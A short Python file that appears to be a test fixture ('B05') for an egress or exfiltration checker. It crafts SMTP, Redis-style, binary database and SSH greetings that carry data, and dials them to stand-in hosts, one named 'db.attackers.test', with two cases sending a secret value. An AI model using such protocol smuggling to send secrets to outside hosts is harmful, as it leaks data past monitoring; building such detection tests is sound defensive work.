"""B05: speak something else than HTTP: mail, a key-value store, a database, a shell."""

GREETINGS = (
    b"EHLO hostile\r\nMAIL FROM:<%s@open.test>\r\n",
    b"*3\r\n$3\r\nSET\r\n$4\r\ntext\r\n$32\r\n%s\r\n",
    b"\x85\xa6\x3f\x20\x00\x00\x00\x01\x21%s\x00",
    b"SSH-2.0-%s\r\n",
)


def speak(hands, host, text):
    """Say it in each protocol."""
    for greeting in GREETINGS:
        hands.dial(host, 5432, greeting % text.encode())


def attack(hands):
    speak(hands, "db.attackers.test", hands.plain())


def labelled(hands):
    speak(hands, "db.open.test", hands.secret())


def twin(hands):
    speak(hands, "db.kept.test", hands.secret())
